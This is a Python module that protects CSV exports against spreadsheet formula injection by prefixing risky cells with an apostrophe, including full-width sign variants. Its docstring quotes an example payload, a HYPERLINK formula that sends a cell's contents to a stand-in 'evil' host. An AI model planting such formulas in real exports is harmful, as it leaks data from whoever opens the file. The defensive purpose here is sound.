"""Cells written to CSV files that people open in a spreadsheet (formula injection).

Excel, WPS and LibreOffice run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and a
tab or carriage return before one of them) as a formula: a publication titled
``=HYPERLINK("http://evil/?"&A1,"点击")`` would become a live link in the archive's manifest.
Following OWASP's advice, such a cell is written with a leading apostrophe, which the
spreadsheet shows as text and hides. Full-width signs are treated the same way, since
Chinese input methods type them and some spreadsheets accept them. A plain number such as
``-5`` or ``+3.5`` stays a number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def safe_cell(value: object) -> object:
    """``value``, with a leading apostrophe if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]
